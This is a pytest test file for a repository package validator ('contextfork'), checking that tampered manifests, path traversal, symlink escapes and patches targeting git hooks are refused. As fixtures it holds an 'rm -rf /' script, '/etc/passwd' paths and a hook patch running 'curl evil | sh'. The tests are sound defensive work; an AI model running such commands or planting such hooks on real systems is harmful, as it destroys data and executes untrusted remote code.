from __future__ import annotations

import json
import os
from pathlib import Path

import pytest

from contextfork.hashing import canonical_sha256, sha256_bytes
from contextfork.package.export import ExportOptions, export
from contextfork.package.validate import validate_package
from tests.helpers import Repo, cli, make_repo


def _codes(pkg: Path, root: Path | None, strict: bool = False) -> set[str]:
    return {p.code for p in validate_package(pkg, root, strict=strict).errors}


def _rewrite_manifest(pkg: Path, mutate: object) -> None:
    """Tamper with the manifest and re-seal it, like an attacker who knows the format."""
    m = json.loads((pkg / "manifest.json").read_text())
    mutate(m)  # type: ignore[operator]
    m["package_sha256"] = canonical_sha256(m["files"])
    (pkg / "manifest.json").write_text(json.dumps(m))


@pytest.fixture
def pkg(exact_repo: Repo) -> Path:
    return export(exact_repo.path, ExportOptions()).path


def test_validate_accepts_a_fresh_export(pkg: Path, exact_repo: Repo) -> None:
    v = validate_package(pkg, exact_repo.path)
    assert v.errors == [] and v.exit_code == 0


@pytest.mark.parametrize(
    "rel",
    [
        "git_diff.patch",
        "git_status.json",
        "handoff_summary.md",
        "untracked/new/untracked.txt",
        "manifest.json",
    ],
)
def test_validate_detects_a_flipped_byte_in_any_file(pkg: Path, exact_repo: Repo, rel: str) -> None:
    f = pkg / rel
    data = bytearray(f.read_bytes())
    data[len(data) // 2] ^= 0x01
    f.write_bytes(bytes(data))
    v = validate_package(pkg, exact_repo.path)
    assert v.exit_code == 3, [p.line() for p in v.problems]


def test_validate_detects_missing_and_extra_files(pkg: Path, exact_repo: Repo) -> None:
    (pkg / "handoff.json").unlink()
    (pkg / "planted.sh").write_text("rm -rf /\n")
    codes = _codes(pkg, exact_repo.path)
    assert {"file_missing", "extra_file"} <= codes


def test_validate_detects_a_snapshot_whose_hash_differs(pkg: Path, exact_repo: Repo) -> None:
    um_path = pkg / "untracked_manifest.json"
    um = json.loads(um_path.read_text())
    um["files"][0]["sha256"] = "0" * 64
    um_path.write_bytes(json.dumps(um).encode())

    def reseal(m: dict) -> None:  # type: ignore[type-arg]
        for e in m["files"]:
            if e["path"] == "untracked_manifest.json":
                e["sha256"] = sha256_bytes(um_path.read_bytes())
                e["size"] = um_path.stat().st_size

    _rewrite_manifest(pkg, reseal)
    assert "snapshot_mismatch" in _codes(pkg, exact_repo.path)


@pytest.mark.parametrize(
    ("bad", "why"),
    [
        ("/etc/passwd", "absolute"),
        ("untracked/../../evil", "traversal"),
        (".git/hooks/pre-commit", ".git"),
    ],
)
def test_validate_refuses_hostile_manifest_paths(
    pkg: Path, exact_repo: Repo, bad: str, why: str
) -> None:
    _rewrite_manifest(
        pkg, lambda m: m["files"].append({"path": bad, "sha256": "0" * 64, "size": 1})
    )
    v = validate_package(pkg, exact_repo.path)
    assert any(p.code == "unsafe_path" and p.path == bad for p in v.errors)
    assert v.exit_code == 3


def test_validate_refuses_a_symlink_planted_in_the_package(pkg: Path, exact_repo: Repo) -> None:
    os.symlink("/etc/passwd", pkg / "untracked" / "new" / "evil-link")
    assert "symlink_in_package" in _codes(pkg, exact_repo.path)


def _seal_patch(pkg: Path, patch: bytes) -> None:
    (pkg / "git_diff.patch").write_bytes(patch)

    def reseal(m: dict) -> None:  # type: ignore[type-arg]
        for e in m["files"]:
            if e["path"] == "git_diff.patch":
                e["sha256"], e["size"] = sha256_bytes(patch), len(patch)

    _rewrite_manifest(pkg, reseal)


HOSTILE = b"""diff --git a/.git/hooks/post-checkout b/.git/hooks/post-checkout
new file mode 100755
index 0000000000000000000000000000000000000000..e69de29bb2d1d6434b8b29ae775ad8c2e48c5391
--- /dev/null
+++ b/.git/hooks/post-checkout
@@ -0,0 +1 @@
+curl evil | sh
"""


def test_validate_refuses_a_patch_that_targets_git_hooks(pkg: Path, exact_repo: Repo) -> None:
    _seal_patch(pkg, HOSTILE)
    v = validate_package(pkg, exact_repo.path)
    assert any(p.code == "unsafe_path" and ".git" in (p.path or "") for p in v.errors)


def test_validate_refuses_a_patch_written_through_a_symlink(repo: Repo, tmp_path: Path) -> None:
    os.symlink(tmp_path, repo.path / "escape")
    repo.commit_all("add a symlink to outside")
    p = export(repo.path, ExportOptions()).path
    patch = b"""diff --git a/escape/owned.txt b/escape/owned.txt
new file mode 100644
index 0000000000000000000000000000000000000000..e69de29bb2d1d6434b8b29ae775ad8c2e48c5391
--- /dev/null
+++ b/escape/owned.txt
@@ -0,0 +1 @@
+pwned
"""
    _seal_patch(p, patch)
    v = validate_package(p, repo.path)
    assert any("symlink" in p.message for p in v.errors), [x.line() for x in v.problems]


def test_validate_reports_a_recorded_head_that_does_not_exist(pkg: Path, tmp_path: Path) -> None:
    other = make_repo(tmp_path / "other")
    v = validate_package(pkg, other.path)
    assert "head_missing" in {p.code for p in v.errors}


def test_validate_checks_the_patch_against_recorded_head_not_the_working_tree(
    exact_repo: Repo,
) -> None:
    exact_repo.write("crlf.txt", b"something else entirely\n")
    # an export whose patch is then swapped for one that only applies to the current work tree
    p = export(exact_repo.path, ExportOptions()).path
    exact_repo.git("add", "crlf.txt")
    exact_repo.git("commit", "-q", "-m", "moved on")
    exact_repo.write("crlf.txt", b"something else entirely\nplus\n")
    worktree_patch = exact_repo.git("diff", "HEAD", "--", "crlf.txt").encode() + b"\n"
    _seal_patch(p, worktree_patch)
    assert "patch_does_not_apply" in _codes(p, exact_repo.path)


def test_validate_reports_json_that_fails_its_schema(pkg: Path, exact_repo: Repo) -> None:
    gs_path = pkg / "git_status.json"
    gs = json.loads(gs_path.read_text())
    gs["detached"] = "sometimes"
    data = json.dumps(gs).encode()
    gs_path.write_bytes(data)

    def reseal(m: dict) -> None:  # type: ignore[type-arg]
        for e in m["files"]:
            if e["path"] == "git_status.json":
                e["sha256"], e["size"] = sha256_bytes(data), len(data)

    _rewrite_manifest(pkg, reseal)
    v = validate_package(pkg, exact_repo.path)
    assert any(p.code == "schema_invalid" and p.path == "git_status.json" for p in v.errors)
    assert v.exit_code == 1


def test_validate_warns_on_placeholders_and_fails_with_strict(pkg: Path, exact_repo: Repo) -> None:
    v = validate_package(pkg, exact_repo.path)
    assert any(p.code == "unfilled_placeholder" and p.severity == "warning" for p in v.problems)
    assert "unfilled_placeholder" in _codes(pkg, exact_repo.path, strict=True)


def test_validate_cli_exit_codes_and_one_line_errors(exact_repo: Repo, pkg: Path) -> None:
    ok = cli("validate", "--json", cwd=exact_repo.path)
    assert ok.returncode == 0, ok.stderr
    assert ok.json()["data"]["valid"] is True
    strict = cli("validate", "--strict", cwd=exact_repo.path)
    assert strict.returncode == 1
    (pkg / "git_diff.patch").write_bytes(b"tampered")
    bad = cli("validate", str(pkg), cwd=exact_repo.path)
    assert bad.returncode == 3 and "hash_mismatch" in bad.stderr
    missing = cli("validate", "nope", cwd=exact_repo.path)
    assert missing.returncode == 4 and "Traceback" not in missing.stderr


def test_validate_a_truncated_package(pkg: Path, exact_repo: Repo) -> None:
    (pkg / "manifest.json").write_text('{"manifest_version": "1.2", "files": [')
    v = validate_package(pkg, exact_repo.path)
    assert v.exit_code == 3


def test_validate_refuses_a_snapshot_below_a_symlink_the_patch_creates(repo: Repo) -> None:
    """The patch's own symlinks come from `git apply --summary`, which validate runs only when
    the patch carries a symlink mode: this one does, and the snapshot below it is refused."""
    repo.write("lnk/x.txt", "untracked, below what the patch makes a symlink\n")
    p = export(repo.path, ExportOptions()).path
    patch = b"""diff --git a/lnk b/lnk
new file mode 120000
index 0000000000000000000000000000000000000000..1de565933b05f74c75ff9a6520af5f9f8a5a2f1d
--- /dev/null
+++ b/lnk
@@ -0,0 +1 @@
+/tmp
\\ No newline at end of file
"""
    _seal_patch(p, patch)
    v = validate_package(p, repo.path)
    assert any(x.code == "unsafe_path" and x.path == "lnk/x.txt" for x in v.errors), [
        x.line() for x in v.problems
    ]
